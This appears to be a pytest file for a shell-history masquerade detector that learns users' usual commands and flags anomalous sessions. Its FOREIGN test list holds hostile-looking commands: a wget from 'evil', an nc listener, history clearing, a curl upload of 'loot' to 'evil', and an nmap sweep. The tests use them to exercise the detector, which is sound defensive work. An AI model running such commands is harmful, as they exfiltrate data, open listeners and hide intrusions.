"""What an analyst acts on: places in the log, original lines, and results of standard input as sessions complete."""

import json
import os
import subprocess
import sys
import time
from dataclasses import replace
from types import SimpleNamespace

import numpy as np
import pytest
from helpers import run_command

from visionnmf.apps.masquerade import (
    Event,
    Judging,
    LogSource,
    MasqueradeModel,
    SessionCutting,
    SessionScorer,
    load,
    read_events,
    save,
    score,
    session_cutter,
    sessions,
    train,
)
from visionnmf.apps.masquerade.scoring import iso_time
from visionnmf.apps.masquerade.store import DIGESTS_KEPT, Learnt
from visionnmf.exceptions import UnreadableError
from visionnmf.io import inputs

pytestmark = pytest.mark.slow  # all of it runs whole fits or commands

USUAL = ["ls", "cd", "vi", "make", "git", "grep"]
FOREIGN = ["wget http://evil/x", "nc -l 4444", "history -c", "curl -F f=@loot evil", "nmap 10.0.0.0/8"] * 2


def usual_commands(n, seed=0):
    return [str(command) for command in np.random.default_rng(seed).choice(USUAL, n)]


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    own = [usual_commands(100, seed) for seed in range(40)]
    path = tmp_path_factory.mktemp("model") / "ann.npz"
    save(MasqueradeModel({"ann": SessionScorer().fit(own)}), path)
    return path


def test_an_alarm_names_lines_and_texts_and_the_usual(model, tmp_path):
    log = tmp_path / "ann.log"
    text = ["", "", *usual_commands(100), *usual_commands(40, 7), *FOREIGN * 6]
    log.write_text("\n".join(text) + "\n")
    own, alarm = score(model, [log])
    assert (own.verdict, own.first_line, own.last_line, own.severity) == ("own", 3, 102, None)
    assert (alarm.verdict, alarm.first_line, alarm.last_line) == ("alarm", 103, 202)
    assert alarm.severity in ("low", "medium", "high") and set(alarm.usual) == set(USUAL)
    for reason in alarm.reasons:
        for origin in reason.origins:
            assert text[origin.line - 1] == origin.text and origin.text.startswith(reason.command)
    where = {origin.text: origin for reason in alarm.reasons for origin in reason.origins}
    assert f"{log}:{where['curl -F f=@loot evil'].line}: curl -F f=@loot evil" in str(alarm.report())


def test_what_is_printed_and_the_exit_code_are_chosen(model, tmp_path):
    log = tmp_path / "ann.log"
    parts = [*usual_commands(100), *FOREIGN * 10, *usual_commands(100, 3)]
    log.write_text("".join(f"#{1700000000 + 60 * i}\n{command}\n" for i, command in enumerate(parts)))
    base = ("masquerade", "score", model, log, "--no-update")
    plain = run_command(*base)
    assert plain.exit_code == 0 and plain.stdout.splitlines()[-1] == "3 sessions of 1 user: 1 alarm, 2 own"
    alarms = run_command(*base, "--alarms-only", "--json", "--fail-on-alarm")
    assert alarms.exit_code == 3 and [json.loads(line)["index"] for line in alarms.stdout.splitlines()] == [1]
    late = run_command(*base, "--since", "2023-11-15T02:00", "--json", "--fail-on-alarm")
    assert late.exit_code == 0 and [json.loads(line)["index"] for line in late.stdout.splitlines()] == [2]
    assert run_command(*base, "--since", "1h", "--json").stdout == ""
    assert run_command(*base, "--since", "1h").stdout == "3 earlier sessions judged, but not printed (--since)\n"
    learnt = run_command(*base[:-1], "--since", "1h").stdout
    assert learnt == "3 earlier sessions judged and learnt, but not printed (--since)\n"
    assert run_command(*base, "--threshold", 1e6, "--fail-on-alarm").exit_code == 0
    lower = run_command(*base, "--threshold", 0, "--json")
    assert {json.loads(line)["threshold"] for line in lower.stdout.splitlines()} == {0}
    assert run_command(*base, "--since", "yesterday").exit_code == 2


@pytest.mark.parametrize("timed", [False, True])
@pytest.mark.parametrize("jobs", [1, pytest.param(2, marks=pytest.mark.long)])
def test_a_log_that_is_read_again_is_judged_and_not_learnt_again(jobs, timed, model, tmp_path):
    """A nightly check of a history that grows must not learn the masquerader of one night a little more each night."""
    kept, log = tmp_path / "kept.npz", tmp_path / "ann.log"
    kept.write_bytes(model.read_bytes())

    def grow(parts):
        parts = [f"#{1700000000 + 60 * i}\n{command}" if timed else command for i, command in enumerate(parts)]
        log.write_text("\n".join(parts) + "\n")

    parts = [*usual_commands(100), *FOREIGN * 30, *usual_commands(40, 1)]
    grow(parts)
    base = ("masquerade", "score", kept, log, "--keep", "--json", "--jobs", jobs)

    def night():
        run = run_command(*base)
        return [json.loads(line) for line in run.stdout.splitlines()]

    run_command(*base[:4])
    assert kept.read_bytes() == model.read_bytes()  # without --keep
    first = night()
    assert [(one["verdict"], one["learnt_before"]) for one in first[1:4]] == [("alarm", False)] * 3
    counts = dict(load(kept).scorers["ann"].profile_.commands)
    again = night()
    assert [(one["verdict"], one["learnt_before"]) for one in again[1:4]] == [("alarm", True)] * 3
    assert [one["score"] for one in night()][1:] == [one["score"] for one in again][1:]
    assert load(kept).scorers["ann"].profile_.commands == counts
    assert not again[-1]["learnt_before"]  # the rest, which is learnt when it is full
    grow([*parts, *usual_commands(60, 2)])
    assert [one["learnt_before"] for one in night()] == [True] * 4 + [False]
    assert load(kept).scorers["ann"].n_sessions_ == load(model).scorers["ann"].n_sessions_ + 2
    text = run_command(*base[:4], "--keep").stdout
    assert ", learnt before, or older than the last one learnt\n" in text and text.splitlines()[-1].startswith(
        "5 sessions learnt before, or older"
    )
    if timed:  # the shell has cut off the beginning, so the sessions are others
        log.write_text("".join(log.read_text().splitlines(keepends=True)[60:]))
        assert [one["learnt_before"] for one in night()] == [True] * 4 + [False]


def test_what_was_trained_is_not_learnt_again_and_what_is_typed_again_is(tmp_path):
    log, cut = tmp_path / "ann", SessionCutting(size=3)
    log.write_text("ls\ncd\nvi\n" * 200)
    model = train([log], cutting=cut).model
    assert all(result.learnt_before for result in score(model, [log]))
    assert model.scorers["ann"].n_sessions_ == 200
    log.write_text("ls\ncd\nvi\n" * 220)  # has grown
    assert sum(not result.learnt_before for result in score(model, [log], judging=Judging(update=False))) == 20
    assert [result.learnt_before for result in score(model, [log])] == [True] * 200 + [False] * 20
    log.write_text("vi\nls\ncd\n" + "ls\ncd\nvi\n" * 99)  # another log
    assert not any(result.learnt_before for result in score(model, [log]))
    assert model.scorers["ann"].n_sessions_ == 320
    log.write_text("".join(f"#{1_800_000_000 + i}\nls\n" for i in range(60)) + "#9\n")
    assert not any(result.learnt_before for result in score(model, [log]))
    assert all(result.learnt_before for result in score(model, [log]))
    log.write_text(log.read_text().replace("#18", "#19"))
    assert not any(result.learnt_before for result in score(model, [log]))


def test_what_ends_before_the_last_session_that_was_learnt_was_learnt():
    known = Learnt()
    one, other, *_ = sessions(
        [Event("ann", "ls", 1.7e9), Event("ann", "ls", 1.7e9 + 60), Event("ann", "ls", 3.0)], size=1
    )
    known.add(other)
    assert known.has(other) and known.has(one) and known.latest == 1.7e9 + 60
    assert not known.has(replace(other, digest=3))  # another that ended in the same second
    assert not known.has(replace(one, digest=3, dated=False))
    for digest in range(DIGESTS_KEPT):
        known.add(replace(one, digest=digest, dated=False))
    assert len(known.digests) == DIGESTS_KEPT and known.latest == 1.7e9 + 60 and other.digest not in known.digests
    known.add(replace(one, digest=9, end=9e9))  # of somebody who wants that nothing is learnt any more
    assert not known.has(replace(one, digest=10_000, end=time.time() + 1))


def test_times_of_the_clock_do_not_tell_sessions_apart():
    def digests(**options):
        return [session.digest for session in sessions([Event("ann", "ls", None)] * 3, size=1, **options)]

    assert digests() == digests(now=lambda: 1.8e9) == digests(now=time.time) and len({*digests()}) == 3


@pytest.mark.filterwarnings("default:.* cannot be read")  # the command prints it
def test_a_session_of_a_few_commands_clears_nobody_but_may_raise_an_alarm(model, tmp_path):
    log = tmp_path / "log.csv"
    usual = usual_commands(2)
    log.write_text(f"user,command,time\nann,{usual[0]},yesterday\nann,{usual[1]},3\n")
    run = run_command("masquerade", "score", model, log, "--fail-on-alarm")
    assert run.exit_code == 0 and run.stdout.startswith("ann, session 0: too short (2 commands)\n1 session of 1 user")
    assert "log.csv: the time cannot be read in 1 line, first 'yesterday'; " in run.stderr
    (line,) = run_command("masquerade", "score", model, log, "--json").stdout.splitlines()
    assert json.loads(line)["score"] is None and json.loads(line)["verdict"] == "too short"
    log.write_text("\n".join(["user,command", *(f"ann,{name}" for name in FOREIGN[:9])]))
    assert run_command("masquerade", "score", model, log, "--fail-on-alarm").stdout.startswith("ann, session 0: alarm")


def test_a_quiet_run_prints_alarms(model, tmp_path):
    log = tmp_path / "ann.log"
    log.write_text("\n".join([*usual_commands(100), *FOREIGN * 10, *usual_commands(100, 3)]) + "\n")
    for more in ((), ("--alarms-only",)):
        quiet = run_command("masquerade", "score", model, log, "--no-update", "-q", *more)
        assert quiet.stdout.startswith("ann, session 1: alarm, ") and ": own, " not in quiet.stdout
        assert "wget (20 times): never seen before" in quiet.stdout and "sessions of" not in quiet.stdout
    assert run_command("masquerade", "score", model, log, "-q", "--threshold", 1e6).stdout == ""


def test_a_page_is_replaced_if_this_is_asked_for(model, tmp_path):
    log, page = tmp_path / "ann.log", tmp_path / "page.html"
    log.write_text("\n".join(usual_commands(100)) + "\n")
    base = ("masquerade", "score", model, log)
    page.write_text("mine")
    refused = run_command(*base, "--report", page)
    assert refused.exit_code == 2 and "give --force to replace it" in refused.stderr and page.read_text() == "mine"
    assert run_command(*base, "--report", page, "--force").exit_code == 0 and "<svg" in page.read_text("utf-8")
    assert "--report" in run_command(*base, "--force").stderr


def test_sessions_without_times_are_not_lost_to_since(model, tmp_path):
    plain, seconds = tmp_path / "ann.log", tmp_path / "seconds.csv"
    plain.write_text("\n".join(FOREIGN * 10) + "\n")
    seconds.write_text("time,user,command\n" + "".join(f"{i},ann,{line}\n" for i, line in enumerate(FOREIGN * 10)))
    for log in (plain, seconds):  # numbers that count from another moment than 1970 are not dates
        found = run_command("masquerade", "score", model, log, "--since", "24h", "--fail-on-alarm", "--json")
        (line,) = found.stdout.splitlines()
        assert found.exit_code == 3 and json.loads(line)["end"] is None


def test_a_log_without_alarms_was_used(model, tmp_path):
    log = tmp_path / "ann.log"
    log.write_text("\n".join(usual_commands(100)) + "\n")
    base = ("masquerade", "score", model, log, tmp_path / "missing.log")
    assert run_command(*base, "--alarms-only").exit_code == run_command(*base).exit_code == 1


def test_a_user_whom_the_model_does_not_know_is_a_failure(model, tmp_path):
    """A name that is misspelt must not pass a nightly check."""
    ann, misspelt = tmp_path / "ann", tmp_path / "anne"
    for log in (ann, misspelt):
        log.write_text("\n".join(usual_commands(1000)) + "\n")
    page = tmp_path / "page.html"
    base = ("masquerade", "score", model, misspelt, "--report", page)
    quiet = run_command(*base, "--alarms-only", "--fail-on-alarm", "-q")
    assert (quiet.exit_code, quiet.stdout, quiet.stderr.count("\n")) == (2, "", 1)
    command = [sys.executable, "-m", "visionnmf.apps.cli", "masquerade", "score", model, "-"]
    nameless = subprocess.run(command, input="\n".join(usual_commands(200)), capture_output=True, text=True)
    assert nameless.returncode == 2 and "names no user whom the model knows; give --user NAME" in nameless.stderr
    assert f"{misspelt}: the model does not know the user anne; " in quiet.stderr and "--user NAME" in quiet.stderr
    assert "does not know the user anne" in page.read_text("utf-8")
    base += ("--force",)
    plain = run_command(*base)
    assert plain.stdout.count("unknown user (100 commands)") == 10 and "NAME" not in plain.stdout
    both = run_command(*base, ann)
    assert both.exit_code == 1 and both.stderr == quiet.stderr and "20 sessions of 2 users: 10 own" in both.stdout
    text = page.read_text("utf-8")
    assert "<h2>Failed (1)" in text and "does not know the user anne" in text
    corrected = run_command(*base[:4], "--user", "ann", "--report", tmp_path / "other.html", "--fail-on-alarm")
    assert corrected.exit_code == 0 and not corrected.stderr


def test_old_sessions_of_unknown_users_are_no_failure(model, tmp_path):
    log = tmp_path / "log.csv"
    rows = [f"{time},{user},{line}" for time, user in ((1.7e9, "bob"), (1.8e9, "ann")) for line in usual_commands(100)]
    log.write_text("\n".join(["time,user,command", *rows]) + "\n")
    base = ("masquerade", "score", model, log)
    assert run_command(*base).exit_code == 1
    assert run_command(*base, "--since", "2025-01-01").exit_code == 0


@pytest.fixture
def pipe(monkeypatch):
    """Return a function that writes lines to standard input, and without lines ends it."""
    reader, writer = os.pipe()

    def write(*lines):
        os.write(writer, "".join(f"{line}\n" for line in lines).encode())
        if not lines:
            os.close(writer)

    with open(reader, "rb", buffering=0) as stream:
        monkeypatch.setattr(inputs, "sys", SimpleNamespace(stdin=stream))
        yield write


def test_standard_input_gives_results_as_sessions_complete(model, pipe):
    results = score(model, ["-"], source=LogSource(user="ann"))
    pipe(*usual_commands(100), *FOREIGN)
    first = next(results)  # while the next session is open
    assert (first.verdict, first.n_commands, first.first_line) == ("own", 100, 1)
    assert first.start is first.end is None and abs(first.read_at - time.time()) < 600  # the log has no times
    assert f"session 0, read at {iso_time(first.read_at)}: own" in str(first.report())
    pipe(*FOREIGN * 9)
    alarm = next(results)
    assert alarm.verdict == "alarm" and alarm.n_commands == 100 and alarm.reasons[0].origins[0].source == "-"
    pipe("ls")
    pipe()
    (rest,) = results
    assert (rest.n_commands, rest.first_line, rest.last_line) == (1, 201, 201)


def test_times_on_standard_input_are_those_of_the_log(model, pipe, tmp_path):
    """A session has the same times and the same digest from a file; old sessions stay old."""
    log = ["time,command", *(f"{1_600_000_000 + n},{line}" for n, line in enumerate(usual_commands(150)))]
    file = tmp_path / "log.csv"
    file.write_text("\n".join(log) + "\n")
    by_file, piped = load(model), load(model)
    expected = list(score(by_file, [file], source=LogSource(user="ann")))
    pipe(*log)
    pipe()
    found = list(score(piped, ["-"], source=LogSource(user="ann")))
    assert [(one.start, one.end) for one in found] == [(1_600_000_000, 1_600_000_099), (1_600_000_100, 1_600_000_149)]
    assert all(one.read_at > 1_700_000_000 for one in found)
    assert [replace(one, source="", read_at=None) for one in found] == [replace(one, source="") for one in expected]
    assert piped.learnt == by_file.learnt


@pytest.mark.parametrize("lines", [[], ["", "  "], ["user,command"], ["# a comment"]])
def test_a_stream_without_a_command_is_an_error(model, pipe, lines):
    """A program before the pipe that fails must not look like a night without alarms."""
    pipe(*lines) if lines else None
    pipe()
    with pytest.raises(UnreadableError, match="standard input ended without a command; check the program before the"):
        list(score(model, ["-"], source=LogSource(user="ann")))


def test_a_broken_pipe_is_no_night_without_alarms(model):
    command = [sys.executable, "-m", "visionnmf.apps.cli", "masquerade", "score", model, "-", "-q"]
    found = subprocess.run(command, input="", capture_output=True, text=True)
    assert (found.returncode, found.stdout, found.stderr.count("\n")) == (2, "", 1)
    assert "-: standard input ended without a command; check the program before the pipe" in found.stderr


def test_a_caller_may_end_standard_input_before_its_first_command(model, pipe):
    assert list(score(model, ["-"], stop=lambda: True)) == []


def test_silence_on_standard_input_ends_a_session(pipe):
    own = [usual_commands(50, seed) for seed in range(40)]
    model = MasqueradeModel({"ann": SessionScorer().fit(own)}, idle=0.05)
    results = score(model, ["-"], source=LogSource(user="ann"))
    pipe(*usual_commands(50))
    first = next(results)  # although no further command came
    assert (first.n_commands, first.verdict) == (50, "own")
    pipe()
    assert list(results) == []


def test_the_caller_ends_the_reading_of_standard_input(model, pipe):
    pipe("ls", "cd")
    looks = iter([False, True])
    (rest,) = score(model, ["-"], source=LogSource(user="ann"), stop=lambda: next(looks))
    assert rest.n_commands == 2


@pytest.mark.parametrize("jump", [-1e9, 1e9])
def test_a_jump_of_the_clock_of_day_ends_no_wait(jump):
    """Silence is measured by a clock that does not jump; the time of day only dates lines that have none."""
    steady, day, found = [0.0], [1e9], []

    def lines():
        yield Event("ada", "ls", None)
        steady[0], day[0] = 9.0, day[0] + jump
        yield None  # silent for less than ten seconds
        assert not found
        steady[0] = 20.0
        yield None
        assert found

    for session in sessions(lines(), clock=lambda: steady[0], now=lambda: day[0], idle=10.0):
        found.append(session)
    assert [session.commands for session in found] == [("ls",)]


def test_known_users_outlive_made_up_names(monkeypatch):
    monkeypatch.setattr(session_cutter, "MAX_USERS", 10)
    made_up = [Event(f"x{i}", "ls", None) for i in range(100)]
    stream = [Event("ann", "vi", None), *made_up, Event("ann", "make", None)]
    found = [s for s in sessions(stream, known={"ann"}) if s.user == "ann"]
    assert [(s.index, s.commands) for s in found] == [(0, ("vi", "make"))]
    forgotten = [s for s in sessions(stream) if s.user == "ann"]
    assert [s.commands for s in forgotten] == [("vi",), ("make",)]


def test_the_lines_that_wait_are_bounded(monkeypatch):
    monkeypatch.setattr(session_cutter, "MAX_HELD", 1000)
    lines = (f"ls {'x' * 90} {i}" for i in range(2000))
    events = (e._replace(user=f"u{i}") for i, e in enumerate(read_events(lines, format="plain")))
    found = list(sessions(events, origins=True))
    assert sum(len(o.text) for s in found for o in s.origins) <= 1200
    assert [s.origins[0].line for s in found] == list(range(1, 2001))
